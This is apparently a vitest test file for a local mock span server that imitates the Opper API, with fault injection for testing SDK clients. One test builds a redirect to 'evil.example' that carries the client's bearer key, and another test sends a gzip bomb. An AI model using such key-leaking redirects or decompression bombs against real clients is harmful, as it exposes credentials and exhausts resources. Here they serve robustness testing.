import { readFileSync } from 'node:fs';
import { request as httpsRequest } from 'node:https';
import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { Opper } from 'opperai';
import {
  BadRequestError,
  NotFoundError,
  RequestValidationError,
  UnauthorizedError,
} from 'opperai/models/errors';
import { describe, expect, it } from 'vitest';
import * as faults from './faults.ts';
import { type FaultRule, type SpanServer, type SpanServerOptions, startSpanServer } from './span-server.ts';

const ID = '3c90c3cc-0d44-4b50-8888-8dd25736052a';
const TRACE = '123e4567-e89b-12d3-a456-426614174000';
const BARE = {
  id: ID,
  name: 'Answer a ticket',
  type: null,
  start_time: null,
  end_time: null,
  input: null,
  output: null,
  error: null,
  meta: null,
  score: null,
  trace_id: null,
  parent_id: null,
};

/** A server with one span on it, and a client that sends what it is told. */
async function start(options?: SpanServerOptions, fields: object = {}) {
  const server = await startSpanServer(options);
  server.create({ id: ID, name: 'Answer a ticket', ...fields });
  return Object.assign(server, { call: (method: string, init?: CallInit) => call(server, method, init) });
}

interface CallInit {
  readonly path?: string;
  readonly body?: unknown;
  readonly text?: string;
  readonly headers?: Record<string, string>;
  readonly timeoutMs?: number;
}

async function call(server: SpanServer, method: string, init: CallInit = {}) {
  const {
    path = `/spans/${ID}`,
    body,
    text = body === undefined ? null : JSON.stringify(body),
    timeoutMs = 5000,
  } = init;
  const headers = {
    authorization: `Bearer ${server.key}`,
    'content-type': 'application/json',
    ...init.headers,
  };
  const signal = AbortSignal.timeout(timeoutMs);
  const response = await fetch(`${server.baseUrl}${path}`, {
    method,
    headers,
    body: text,
    signal,
    redirect: 'manual',
  });
  const answer = await response.text();
  return {
    status: response.status,
    headers: response.headers,
    text: answer,
    json: answer === '' ? undefined : parse(answer),
  };
}

function parse(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

describe('the official SDK', () => {
  it('creates, reads and updates spans on the server', async () => {
    await using server = await startSpanServer();
    const opper = new Opper({ httpBearer: server.key, serverURL: server.baseUrl });

    const created = await opper.spans.create({
      name: 'Answer a ticket',
      traceId: TRACE,
      input: { question: 'Where is my parcel?' },
      startTime: new Date('2026-04-07T13:33:27.179Z'),
    });
    const updated = await opper.spans.update(created.id, {
      score: 9,
      meta: { dataset: 'support-v3' },
      endTime: new Date('2026-04-07T13:33:30Z'),
    });
    const read = await opper.spans.get(created.id);

    const expected = {
      id: created.id,
      name: 'Answer a ticket',
      traceId: TRACE,
      parentId: null,
      type: null,
      startTime: new Date('2026-04-07T13:33:27.179Z'),
      endTime: new Date('2026-04-07T13:33:30Z'),
      input: { question: 'Where is my parcel?' },
      output: null,
      error: null,
      meta: { dataset: 'support-v3' },
      score: 9,
    };
    expect(created).toEqual({ ...expected, endTime: null, meta: null, score: null });
    expect(updated).toEqual(expected);
    expect(read).toEqual({ ...expected, feedback: null });
    expect(server.requests.map(({ method, path, body }) => ({ method, path, body }))).toEqual([
      {
        method: 'POST',
        path: '/v2/spans',
        body: {
          name: 'Answer a ticket',
          trace_id: TRACE,
          input: { question: 'Where is my parcel?' },
          start_time: '2026-04-07T13:33:27.179Z',
        },
      },
      {
        method: 'PATCH',
        path: `/v2/spans/${created.id}`,
        body: { score: 9, meta: { dataset: 'support-v3' }, end_time: '2026-04-07T13:33:30.000Z' },
      },
      { method: 'GET', path: `/v2/spans/${created.id}`, body: undefined },
    ]);
  });

  it('understands the error envelopes', async () => {
    await using server = await startSpanServer();
    const opper = new Opper({ httpBearer: server.key, serverURL: server.baseUrl });
    const stranger = new Opper({ httpBearer: 'op-wrong', serverURL: server.baseUrl });
    server.faults.push({ on: 'PATCH', fault: faults.status(400) });

    await expect(opper.spans.update(ID, { score: 9 })).rejects.toBeInstanceOf(BadRequestError);
    await expect(stranger.spans.get(ID)).rejects.toBeInstanceOf(UnauthorizedError);
    await expect(opper.spans.get(ID)).rejects.toBeInstanceOf(NotFoundError);
    await expect(opper.spans.get('7')).rejects.toBeInstanceOf(RequestValidationError);
  });
});

describe('reading', () => {
  it('answers the whole span, feedback included', async () => {
    const feedback = { score: 0.5, comment: 'Good, but slow' };
    await using server = await start({}, { feedback, score: 7, output: ['a', 1] });
    const { status, json } = await server.call('GET');
    expect({ status, json }).toEqual({
      status: 200,
      json: { ...BARE, score: 7, output: ['a', 1], feedback },
    });
  });

  it('finds a span by its UUID in either case, and answers lower case', async () => {
    await using server = await start({}, { id: ID.toUpperCase() });
    const { status, json } = await server.call('GET', { path: `/spans/${ID.toUpperCase()}` });
    expect({ status, json }).toEqual({ status: 200, json: { ...BARE, feedback: null } });
  });

  it('leaves null fields out on demand', async () => {
    await using server = await start({ omitNulls: true }, { score: 0 });
    expect((await server.call('GET')).json).toEqual({ id: ID, name: 'Answer a ticket', score: 0 });
    expect((await server.call('PATCH', { body: { type: 'workflow' } })).json).toEqual({
      id: ID,
      name: 'Answer a ticket',
      type: 'workflow',
      score: 0,
    });
  });

  it('records every request, with its headers, text and JSON', async () => {
    await using server = await start();
    await server.call('PATCH', { text: '{ "score": 9 }', headers: { 'x-trace': 'abc' } });
    const { headers, ...request } = server.requests[0]!;
    expect(request).toEqual({
      method: 'PATCH',
      path: `/v2/spans/${ID}`,
      body: { score: 9 },
      text: '{ "score": 9 }',
    });
    expect([headers.authorization, headers['x-trace']]).toEqual([`Bearer ${server.key}`, 'abc']);
  });
});

describe('updating', () => {
  it('stores the named fields, leaves the others alone, and does not show the feedback', async () => {
    await using server = await start({}, { input: 'hello', score: 3 });
    const { status, json } = await server.call('PATCH', {
      body: { output: 'bye', score: 9, trace_id: TRACE },
    });
    const expected = { ...BARE, input: 'hello', output: 'bye', score: 9 };
    expect({ status, json }).toEqual({ status: 200, json: expected });
    expect(server.span(ID)).toEqual({ ...expected, feedback: null });
  });

  it.each([
    ['2026-04-07T13:33:27Z', '2026-04-07T13:33:27+00:00'],
    ['2026-04-07T13:33:27.179710Z', '2026-04-07T13:33:27.179710+00:00'],
    ['2026-04-07T13:33:27.5Z', '2026-04-07T13:33:27.500000+00:00'],
    ['2026-04-07T13:33:27.000Z', '2026-04-07T13:33:27+00:00'],
    ['2026-04-07T23:33:27.1234567-05:30', '2026-04-08T05:03:27.123456+00:00'],
  ])('writes the time %s as %s', async (sent, stored) => {
    await using server = await start();
    await server.call('PATCH', { body: { end_time: sent } });
    expect(server.span(ID).end_time).toBe(stored);
  });

  it.each([
    ['replace', { b: 3, c: 4 }],
    ['merge', { a: 1, b: 3, c: 4 }],
  ] as const)('%ss meta', async (meta, stored) => {
    await using server = await start({ meta }, { meta: { a: 1, b: 2 } });
    await server.call('PATCH', { body: { meta: { b: 3, c: 4 } } });
    expect(server.span(ID).meta).toEqual(stored);
  });

  it.each([
    ['clear', { ...BARE, feedback: null }],
    ['ignore', { ...BARE, score: 3, meta: { a: 1 }, feedback: null }],
  ] as const)('takes null as: %s', async (nulls, stored) => {
    await using server = await start({ nulls, meta: 'merge' }, { score: 3, meta: { a: 1 } });
    await server.call('PATCH', { body: { score: null, meta: null, name: null } });
    expect(server.span(ID)).toEqual(stored);
  });
});

describe('refusing', () => {
  const refusal = (type: string, message: string, detail: unknown) => ({ type, message, detail });
  const invalid = (loc: string[], type: string, msg: string, input: unknown) =>
    refusal('RequestValidationError', 'The request is invalid', [{ input, loc, msg, type }]);
  const dictionary = 'Input should be a valid dictionary or object to extract fields from';
  const unauthorized = refusal('UnauthorizedError', 'The request is unauthorized', 'The API key is invalid');
  const uuid = 'Input should be a valid UUID';

  it.each<[string, string, CallInit, number, unknown]>([
    ['another key', 'GET', { headers: { authorization: 'Bearer op-x' } }, 401, unauthorized],
    [
      'a key without Bearer',
      'GET',
      { headers: { authorization: 'op-test-0123456789abcdef' } },
      401,
      unauthorized,
    ],
    [
      'an id that is no UUID',
      'GET',
      { path: '/spans/7' },
      422,
      invalid(['path', 'span_id'], 'uuid_parsing', uuid, '7'),
    ],
    [
      'an unknown span',
      'PATCH',
      { path: `/spans/${TRACE}`, body: {} },
      404,
      refusal('NotFoundError', 'The resource was not found', `Span ${TRACE} not found`),
    ],
    [
      'broken JSON',
      'PATCH',
      { text: '{"a":' },
      422,
      invalid(['body'], 'json_invalid', 'JSON decode error', '{"a":'),
    ],
    ['an array', 'PATCH', { body: [1] }, 422, invalid(['body'], 'model_attributes_type', dictionary, [1])],
    [
      'another content type',
      'PATCH',
      { body: {}, headers: { 'content-type': 'text/plain' } },
      422,
      invalid(['body'], 'model_attributes_type', dictionary, {}),
    ],
    [
      'a fractional score',
      'PATCH',
      { body: { score: 0.5 } },
      422,
      invalid(['body', 'score'], 'int_type', 'Input should be a valid integer', 0.5),
    ],
    [
      'a nameless span',
      'POST',
      { path: '/spans', body: { score: 1 } },
      422,
      invalid(['body', 'name'], 'missing', 'Field required', { score: 1 }),
    ],
    [
      'a time that is no day',
      'PATCH',
      { body: { end_time: '2026-02-30T00:00:00Z' } },
      422,
      invalid(
        ['body', 'end_time'],
        'datetime_from_date_parsing',
        'Input should be a valid datetime or date',
        '2026-02-30T00:00:00Z',
      ),
    ],
    ['an unknown path', 'GET', { path: '/traces' }, 404, { detail: 'Not Found' }],
    ['another method', 'DELETE', {}, 405, { detail: 'Method Not Allowed' }],
  ])('%s', async (_, method, init, status, json) => {
    await using server = await start();
    const answer = await server.call(method, init);
    expect({ status: answer.status, json: answer.json }).toEqual({ status, json });
    expect(server.span(ID)).toEqual({ ...BARE, feedback: null });
  });

  it('names every wrong field at once', async () => {
    await using server = await start();
    const { json } = await server.call('PATCH', {
      body: { name: 1, input: {}, output: [], meta: [], error: true },
    });
    const { detail } = json as { detail: { loc: string[] }[] };
    expect(detail.map(({ loc }) => loc.join('.'))).toEqual([
      'body.name',
      'body.input',
      'body.output',
      'body.error',
      'body.meta',
    ]);
  });
});

describe('faults', () => {
  async function withFault(rule: FaultRule, init: CallInit & { method?: string } = {}) {
    const server = await start();
    server.faults.push(rule);
    const outcome = await server.call(init.method ?? 'GET', init).catch(causeOf);
    const header = (name: string) => (typeof outcome === 'string' ? null : outcome.headers.get(name));
    return { server, outcome, header, [Symbol.asyncDispose]: () => server.close() };
  }

  /** The code or name of the innermost cause. */
  function causeOf(error: unknown): string {
    const { cause, code, name } = error as { cause?: unknown; code?: string; name: string };
    return cause === undefined ? (typeof code === 'string' ? code : name) : causeOf(cause);
  }

  it('meet the first matching requests, as often as told, in the order of their rules', async () => {
    await using server = await start();
    server.faults.push(
      { on: 'PATCH', times: 2, fault: faults.status(503) },
      { on: '*', fault: faults.status(429) },
      { on: 'PATCH', times: Number.POSITIVE_INFINITY, fault: faults.status(500) },
    );
    const statuses = [];
    for (const method of ['GET', 'GET', 'PATCH', 'PATCH', 'PATCH', 'PATCH']) {
      statuses.push((await server.call(method, method === 'GET' ? {} : { body: { score: 9 } })).status);
    }
    expect(statuses).toEqual([429, 200, 503, 503, 500, 500]);
    expect(server.span(ID).score).toBeNull();
  });

  it('answer a status with Retry-After and a body', async () => {
    await using run = await withFault({ fault: faults.status(429, { retryAfter: '7', body: 'slow down' }) });
    expect(run.outcome).toMatchObject({ status: 429, text: 'slow down' });
    expect(run.header('retry-after')).toBe('7');
  });

  it('delay the true answer', async () => {
    const start = performance.now();
    await using run = await withFault({ fault: faults.delay(150) });
    expect(run.outcome).toMatchObject({ status: 200, json: BARE });
    expect(performance.now() - start).toBeGreaterThan(145);
  });

  it.each(['before headers', 'in headers', 'after headers', 'in body'] as const)(
    'stall %s',
    async (point) => {
      await using run = await withFault({ fault: faults.stall(point) }, { timeoutMs: 150 });
      expect(run.outcome).toBe('TimeoutError');
    },
  );

  it.each(['before headers', 'in headers', 'after headers', 'in body'] as const)(
    'reset %s',
    async (point) => {
      await using run = await withFault({ fault: faults.reset(point) });
      expect(run.outcome).toBe('ECONNRESET');
    },
  );

  it.each(['before headers', 'in headers', 'after headers', 'in body'] as const)(
    'hang up %s',
    async (point) => {
      await using run = await withFault({ fault: faults.hangUp(point) });
      expect(run.outcome).toBe('UND_ERR_SOCKET');
    },
  );

  it('break off where they are told to', async () => {
    await using server = await start({ omitNulls: true });
    const head = 'HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 70\r\n\r\n';
    const arrived: Record<string, string> = {};
    for (const point of ['before headers', 'in headers', 'after headers', 'in body'] as const) {
      server.faults.push({ fault: faults.hangUp(point) });
      const socket = connect(Number(new URL(server.baseUrl).port), '127.0.0.1');
      const authorization = `Authorization: Bearer ${server.key}`;
      socket.write(`GET /v2/spans/${ID} HTTP/1.1\r\nHost: 127.0.0.1\r\n${authorization}\r\n\r\n`);
      arrived[point] = await text(socket);
    }
    expect(arrived).toEqual({
      'before headers': '',
      'in headers': head.slice(0, head.length / 2),
      'after headers': head,
      'in body': `${head}{"id":"3c90c3cc-0d44-4b50-8888-8dd2`,
    });
  });

  it('have the API act on a request once, however often they ask', async () => {
    const answers: unknown[] = [];
    await using server = await start();
    server.faults.push({
      fault(exchange) {
        answers.push(exchange.handle(), exchange.handle());
        exchange.send(exchange.handle());
      },
    });
    await server.call('POST', { path: '/spans', body: { name: 'a' } });
    expect(answers[0]).toBe(answers[1]);
  });

  it('apply a PATCH and lose its answer', async () => {
    const rule = { on: 'PATCH', fault: faults.applied(faults.reset('before headers')) } as const;
    await using run = await withFault(rule, { method: 'PATCH', body: { score: 9 } });
    expect([run.outcome, run.server.span(ID).score]).toEqual(['ECONNRESET', 9]);
  });

  it('do not apply a PATCH that was reset before its answer', async () => {
    const rule = { on: 'PATCH', fault: faults.reset('before headers') } as const;
    await using run = await withFault(rule, { method: 'PATCH', body: { score: 9 } });
    expect([run.outcome, run.server.span(ID).score]).toEqual(['ECONNRESET', null]);
  });

  it('send bytes that are not HTTP', async () => {
    await using run = await withFault({ fault: faults.raw('220 mail.example ESMTP\r\n') });
    expect(run.outcome).toBe('HTTPParserError');
  });

  it('send a web page with 200', async () => {
    await using run = await withFault({ fault: faults.html() });
    expect(run.outcome).toMatchObject({ status: 200, text: expect.stringMatching(/^<!doctype html>/) });
  });

  it('send half of the JSON in a sound answer', async () => {
    await using run = await withFault({ fault: faults.truncatedJson() });
    const whole = JSON.stringify({ ...BARE, feedback: null });
    expect(run.outcome).toMatchObject({ status: 200, text: whole.slice(0, whole.length / 2) });
  });

  it('overwrite fields of the true answer', async () => {
    await using run = await withFault({ fault: faults.span({ id: TRACE, score: 'nine' }) });
    expect(run.outcome).toMatchObject({
      status: 200,
      json: { ...BARE, id: TRACE, score: 'nine', feedback: null },
    });
  });

  it.each([200, 204])('send an empty %i', async (code) => {
    await using run = await withFault({ fault: faults.empty(code) });
    expect(run.outcome).toMatchObject({ status: code, text: '' });
  });

  it('redirect, and echo the key in target, header and body', async () => {
    await using target = await withFault({
      fault: faults.redirect(({ request }) => `https://evil.example/?${request.headers.authorization}`),
    });
    expect(target.header('location')).toBe('https://evil.example/?Bearer op-test-0123456789abcdef');

    await using echo = await withFault({
      fault: faults.answer(({ request: { headers } }) => ({
        status: 400,
        headers: { 'x-key': headers.authorization ?? '' },
        body: { detail: headers.authorization },
      })),
    });
    expect(echo.header('x-key')).toBe('Bearer op-test-0123456789abcdef');
    expect(echo.outcome).toMatchObject({ status: 400, json: { detail: 'Bearer op-test-0123456789abcdef' } });
  });

  it('stream an answer of any size', async () => {
    await using run = await withFault({ fault: faults.huge(8 * 1024 * 1024) });
    const { json } = run.outcome as { json: { name: string } };
    expect(json.name.length).toBe(8 * 1024 * 1024);
  });

  it('send a gzip bomb, a thousandth of its size on the wire', async () => {
    await using server = await start();
    server.faults.push({ fault: faults.gzipBomb(16 * 1024 * 1024) });
    const headers = { authorization: `Bearer ${server.key}` };
    const response = await fetch(`${server.baseUrl}/spans/${ID}`, { headers });
    const span = (await response.json()) as { name: string };
    expect(span.name.length).toBe(16 * 1024 * 1024);
    expect(Number(response.headers.get('content-length'))).toBeLessThan(20_000);
  });

  it('trickle a byte at a time', async () => {
    await using slow = await withFault({ fault: faults.trickle(50) }, { timeoutMs: 200 });
    expect(slow.outcome).toBe('TimeoutError');
    await using quick = await withFault({ fault: faults.trickle(0) });
    expect(quick.outcome).toMatchObject({ status: 200, json: BARE });
  });
});

it('closes while requests hang', async () => {
  const server = await start();
  server.faults.push({ fault: faults.stall('before headers') });
  const hanging = server.call('GET').catch(() => 'gone');
  while (server.requests.length === 0) await new Promise(setImmediate);
  await server.close();
  expect(await hanging).toBe('gone');
  await server.close();
});

it('speaks TLS', async () => {
  const [key, cert] = ['key', 'cert'].map((name) =>
    readFileSync(new URL(`./loopback-${name}.pem`, import.meta.url), 'utf8'),
  ) as [string, string];
  await using server = await startSpanServer({ tls: { key, cert } });
  server.create({ id: ID, name: 'Answer a ticket' });
  expect(server.baseUrl).toMatch(/^https:\/\/127\.0\.0\.1:\d+\/v2$/);
  const headers = { authorization: `Bearer ${server.key}` };
  const status = await new Promise((resolve, reject) => {
    const request = httpsRequest(`${server.baseUrl}/spans/${ID}`, { ca: cert, headers }, (response) =>
      resolve(response.resume().statusCode),
    );
    request.once('error', reject).end();
  });
  expect(status).toBe(200);
});
